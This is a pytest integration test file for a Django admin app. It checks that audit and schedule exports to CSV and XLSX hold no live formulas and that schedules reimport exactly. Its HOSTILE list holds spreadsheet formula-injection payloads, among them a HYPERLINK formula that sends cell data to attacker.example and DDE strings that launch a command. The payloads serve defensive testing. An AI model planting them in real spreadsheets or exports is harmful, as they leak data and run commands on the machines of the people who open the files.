"""No CSV or XLSX the console exports holds a live formula, and a schedule export still re-imports exactly."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from taskops.models import AuditEntry
from taskops.schedules.definitions import definition_apply
from taskops.spreadsheets import FORMULA_LEADS
from tests.integration.test_schedule_transfer import (
    EXPORT,
    REPORT,
    _confirm,
    _counts,
    _definitions,
    _empty_database,
    _preview,
)

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A2,"open")', "=cmd|' /C calc'!A0", "+1+1",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def _live_csv_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_LEADS) and not NUMBER.fullmatch(c)]


def _live_xlsx_cells(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        formulas = [name for name in book.namelist() if name.startswith("xl/worksheets/")
                    and re.search(rb"<(\w+:)?f[ >]", book.read(name))]
    assert not formulas, formulas  # no <f> element anywhere
    cells = [cell for sheet in load_workbook(io.BytesIO(content)).worksheets
             for row in sheet.iter_rows() for cell in row]
    return [c.value for c in cells if c.data_type == "f" or (
        isinstance(c.value, str) and c.value.startswith(FORMULA_LEADS)
        and not NUMBER.fullmatch(c.value))]


def _audit_export(client, fmt_index: str):
    fields = ["id", "created_at", "actor_name", "source_ip", "action", "target", "params",
              "reason", "outcome", "message", "detail"]
    return client.post(reverse("admin:taskops_auditentry_export"), {
        "format": fmt_index, "resource": "0", **{f"auditentryresource_{f}": "on" for f in fields}})


def test_the_audit_export_writes_reasons_and_targets_that_start_like_formulas_as_text(
    role_client, isolated_broker
):
    for text in HOSTILE:
        AuditEntry.objects.create(actor_name=text, action="queue.pause", target=text, reason=text,
                                  message=text, outcome="ok", params={"queue": text})
    client = role_client("Operations")

    as_csv = _audit_export(client, "0")
    as_xlsx = _audit_export(client, "1")

    assert as_csv.status_code == as_xlsx.status_code == 200
    assert not _live_csv_cells(as_csv.content.decode("utf-8-sig"))
    assert not _live_xlsx_cells(as_xlsx.content)
    reasons = {row["reason"] for row in csv.DictReader(io.StringIO(as_csv.content.decode()))}
    assert reasons == {"'" + text for text in HOSTILE}  # shown as typed, behind a quote


# XLSX cannot keep a carriage return (XML reads it back as a line feed), with or without a formula.
DESCRIPTIONS = [text for text in HOSTILE if "\r" not in text]
ODD_NAMES = ["=cmd|' /C calc'!A0", "'quoted on purpose", "''two quotes", "+1+1", "-5", "@here",
             "\tindented"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_schedule_export_holds_no_formula_and_reimports_exactly(file_format, role_client,
                                                                  isolated_broker):
    for number, name in enumerate(ODD_NAMES):
        definition_apply({
            "name": name, "task": REPORT, "args": [name], "kwargs": {"note": "=1+1"},
            "schedule": {"kind": "interval", "every": number + 1, "period": "minutes"},
            "description": DESCRIPTIONS[number % len(DESCRIPTIONS)], "queue": "-q" if number % 2 else None,
        })
    exported_state = _definitions()
    client = role_client("Operations")

    exported = client.get(reverse(EXPORT), {"format": file_format})
    assert exported.status_code == 200
    if file_format == "csv":
        assert not _live_csv_cells(exported.content.decode("utf-8-sig"))
    else:
        assert not _live_xlsx_cells(exported.content)

    _empty_database()
    preview = _preview(client, exported.content, f"odd.{file_format}")
    assert _counts(preview) == (len(ODD_NAMES), 0, 0, 0), preview.context["plan"].problems
    _confirm(client, preview)
    assert _definitions() == exported_state
